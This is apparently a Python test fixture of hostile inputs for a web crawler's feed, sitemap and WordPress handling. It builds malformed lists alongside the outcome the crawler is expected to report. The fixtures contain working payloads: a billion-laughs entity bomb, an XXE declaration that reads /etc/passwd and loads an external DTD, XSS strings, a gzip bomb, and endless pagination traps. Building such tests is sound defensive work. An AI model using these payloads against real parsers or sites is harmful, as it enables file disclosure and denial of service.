"""Lists that misbehave: feeds, sitemaps, indexes, WordPress."""

import gzip
import json
from typing import Any

from models import FetchCause, FetchOutcome
from tests.crawler.hostile.cases import Case
from tests.crawler.hostile.pages import MIB
from tests.crawler.hostile.texts import short
from tests.crawler.hostile.web import Answer, Visit, response

LISTED, FAILED = FetchOutcome.LISTED, FetchOutcome.FAILED
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<!DOCTYPE x [<!ENTITY l0 "tertawa">{LAUGHS}]>'
STEAL = '<!DOCTYPE x [<!ENTITY isi SYSTEM "file:///etc/passwd"><!ENTITY % luar SYSTEM "http://lain.invalid/x.dtd"> %luar;]>'


def entry(title: str, link: str, guid: str = "") -> str:
    return f"<item><title>{title}</title><link>{link}</link>{f'<guid>{guid}</guid>' if guid else ''}</item>"


def feed(*entries: str, before: str = "") -> bytes:
    text = f"<?xml version='1.0'?>{before}<rss version='2.0'><channel><title>Kabar</title>{''.join(entries)}</channel></rss>"
    return response(text.encode(), kind="application/rss+xml")


def sitemap(*links: str, before: str = "") -> bytes:
    places = "".join(f"<url><loc>{link}</loc></url>" for link in links)
    return response(f"<?xml version='1.0'?>{before}<urlset>{places}</urlset>".encode(), kind="application/xml")


def listed(what: str, answer: Answer, outcome: FetchOutcome, cause: FetchCause, says: str, **named: Any) -> Case:
    """A case that is one list; `named` is what the source file says of it, beside its address."""
    source = named.pop("source", "kanal")
    slug = "-".join(what.lower().replace(",", "").split())
    return Case(what, source, f"/{slug}", answer, outcome, cause, says, feed={"kind": "rss", **named})


def many_links(visit: Visit) -> bytes:
    return response("".join(f"<h2><a href=/banjir/{n}>Rapat {n}</a></h2>" for n in range(10_000)).encode())


def calendar(visit: Visit) -> bytes:
    """A month that always has a next one."""
    month = int(visit.asked.path.rpartition("=")[2]) if "=" in visit.asked.path else 0
    link = f'<a class=lanjut href="/a-calendar-without-end?bulan={month + 1}">Bulan depan</a>'
    return response(f"<h2><a href=/acara/{month}>Rapat bulan {month}</a></h2>{link}".encode())


def posts(visit: Visit) -> bytes:
    """WordPress that never has a last page."""
    page = visit.asked.path.rpartition("&page=")[2].split("&")[0]
    rows = [{"link": f"{visit.root}/pos/{page}-{n}", "title": {"rendered": f"Pos {n}"}} for n in range(20)]
    return response(json.dumps(rows).encode(), kind="application/json", more={"X-WP-TotalPages": "999999"})


INDEX = "<sitemapindex><sitemap><loc>{root}/a-sitemap-index-that-names-itself</loc></sitemap></sitemapindex>"
MANY = "".join(entry(f"Rapat {n}", f"{{root}}/banjir/{n}") for n in range(50_000))
FAILING = 200
STORM = [entry(f"Rapat {n}", f"{{root}}/badai/{n}") for n in range(FAILING)]
TWINS = [entry("Kembar", f"{{root}}/kembar-{n}", guid="sama") for n in (1, 2)] + [entry("Kembar", "{root}/kembar-1", guid="lain")]
MARKUP = entry("Rapat &lt;script&gt;alert(1)&lt;/script&gt;<![CDATA[<img src=x onerror=alert(2)>]]>", "{root}/kembar-3")

LISTS = [
    listed("a feed of laughing entities", feed(entry("&l9;", "{root}/kembar-1"), before=BOMB), LISTED, FetchCause.NONE, "dari"),
    listed(
        "a feed that asks for a file", feed(entry("A &isi; B", "{root}/kembar-1"), before=STEAL), LISTED, FetchCause.NONE, "dari"
    ),
    listed(
        "a sitemap of laughing entities",
        sitemap("{root}/kembar-1&l9;", before=BOMB),
        LISTED,
        FetchCause.NONE,
        "dari 1",
        kind="sitemap",
    ),
    listed(
        "a sitemap that asks for a file", sitemap("{root}/kembar-1", before=STEAL), LISTED, FetchCause.NONE, "", kind="sitemap"
    ),
    listed("a feed that is HTML", short("Beranda", "Selamat datang."), FAILED, FetchCause.FEED, "bukan RSS"),
    listed("a feed that is a captcha", short("Just a moment...", "Tunggu."), FAILED, FetchCause.CAPTCHA, "captcha"),
    listed("a feed that is gone", response(b"", status="410 Gone"), FAILED, FetchCause.GONE, "HTTP 410"),
    listed(
        "a sitemap cut in its gzip",
        response(gzip.compress(sitemap("{root}/x") * 9)[:90]),
        FAILED,
        FetchCause.ENCODING,
        "gzip",
        kind="sitemap",
    ),
    listed(
        "a sitemap that is a bomb",
        lambda _: response(gzip.compress(b"<" * (51 * MIB), 1)),
        FAILED,
        FetchCause.TOO_LARGE,
        "50 MB",
        kind="sitemap",
    ),
    listed("WordPress that is deep JSON", response(b"[" * 100_000), FAILED, FetchCause.FEED, "WordPress", kind="wordpress"),
    listed(
        "an index without its links",
        short("Indeks", "Kosong."),
        FAILED,
        FetchCause.FEED,
        "tidak ada tautan",
        kind="index",
        link="h2 a",
    ),
    listed("entries with one guid, and one address twice", feed(*TWINS), LISTED, FetchCause.NONE, "dari 3"),
    listed("script in a feed", feed(MARKUP), LISTED, FetchCause.NONE, "1 baru dari 1"),
    listed(
        "a sitemap index that names itself",
        response(INDEX.encode(), kind="application/xml"),
        LISTED,
        FetchCause.NONE,
        "0 baru",
        kind="sitemap",
    ),
]
TRAPS = [
    listed(
        "a page of 10,000 links", many_links, LISTED, FetchCause.NONE, "dari 10000", kind="index", link="h2 a", source="banjir"
    ),
    listed(
        "a calendar without end",
        calendar,
        LISTED,
        FetchCause.NONE,
        "1 baru",
        kind="index",
        link="h2 a",
        next="a.lanjut",
        source="jebakan",
    ),
    listed(
        "WordPress without a last page", posts, LISTED, FetchCause.NONE, "20 baru dari 20", kind="wordpress", source="jebakan"
    ),
    listed(
        "a feed of 50,000 entries",
        response(f"<rss version='2.0'><channel>{MANY}</channel></rss>".encode()),
        LISTED,
        FetchCause.NONE,
        "dari 5000",
        source="banjir",
    ),
    listed("a feed whose every page fails", feed(*STORM), LISTED, FetchCause.NONE, f"{FAILING} baru dari", source="badai"),
]
